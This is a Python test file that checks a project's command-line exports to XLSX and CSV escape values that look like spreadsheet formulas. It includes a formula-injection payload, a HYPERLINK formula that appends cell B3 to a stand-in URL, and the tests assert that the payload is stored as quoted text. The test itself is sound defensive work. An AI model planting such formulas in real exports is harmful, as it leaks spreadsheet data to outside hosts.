"""The command line writes spreadsheets through the same escaping as the site."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from kargah.cli import app

ATTACK = '=HYPERLINK("http://x"&B3,"Open")'


def test_a_theme_typed_as_a_formula_stays_text_in_the_cli_outputs(tmp_path: Path) -> None:
    runner = CliRunner()
    assert runner.invoke(app, ["coding", "synthetic", "-o", str(tmp_path)]).exit_code == 0
    segments = pd.read_csv(tmp_path / "segments.csv", dtype=str, encoding="utf-8-sig")
    segments.loc[segments["theme"] == segments["theme"].iloc[0], "theme"] = ATTACK
    source = tmp_path / "attack.csv"
    segments.to_csv(source, index=False)  # as a user's own tool would write it: unescaped
    for name in ("out.xlsx", "out.csv"):
        done = runner.invoke(
            app, ["coding", "frequencies", str(source), "-o", str(tmp_path / name)]
        )
        assert done.exit_code == 0, done.output
    sheet = load_workbook(tmp_path / "out.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("theme")] for row in sheet.iter_rows(min_row=2)]
    assert "'" + ATTACK in [c.value for c in cells]
    assert all(c.data_type == "s" for c in cells)  # no formula anywhere
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
        themes = [row["theme"] for row in csv.DictReader(f)]
    assert "'" + ATTACK in themes and ATTACK not in themes


@pytest.mark.django_db
def test_kargah_registry_export_escapes_and_the_full_one_has_everything(tmp_path: Path) -> None:
    from kargah.registry import synthetic_registry
    from kargah.web.registry.models import Workshop

    Workshop.objects.load_frame(synthetic_registry(3, seed=2))
    Workshop.objects.filter(pk=Workshop.objects.first().pk).update(name_fa=ATTACK, contact="-1")
    runner = CliRunner()
    done = runner.invoke(app, ["registry", "export", str(tmp_path / "full.xlsx"), "--full"])
    assert done.exit_code == 0, done.output
    rows = list(load_workbook(tmp_path / "full.xlsx").active.iter_rows(values_only=True))
    assert len(rows) == 4 and {"contact", "owner", "history"} <= set(rows[0])
    assert rows[1][rows[0].index("name_fa")] == "'" + ATTACK
    assert rows[1][rows[0].index("contact")] == "'-1"
    done = runner.invoke(app, ["registry", "export", str(tmp_path / "public.csv")])
    assert done.exit_code == 0, done.output
    with (tmp_path / "public.csv").open(encoding="utf-8-sig", newline="") as f:
        public = list(csv.DictReader(f))
    assert public[0]["name_fa"] == "'" + ATTACK and "contact" not in public[0]
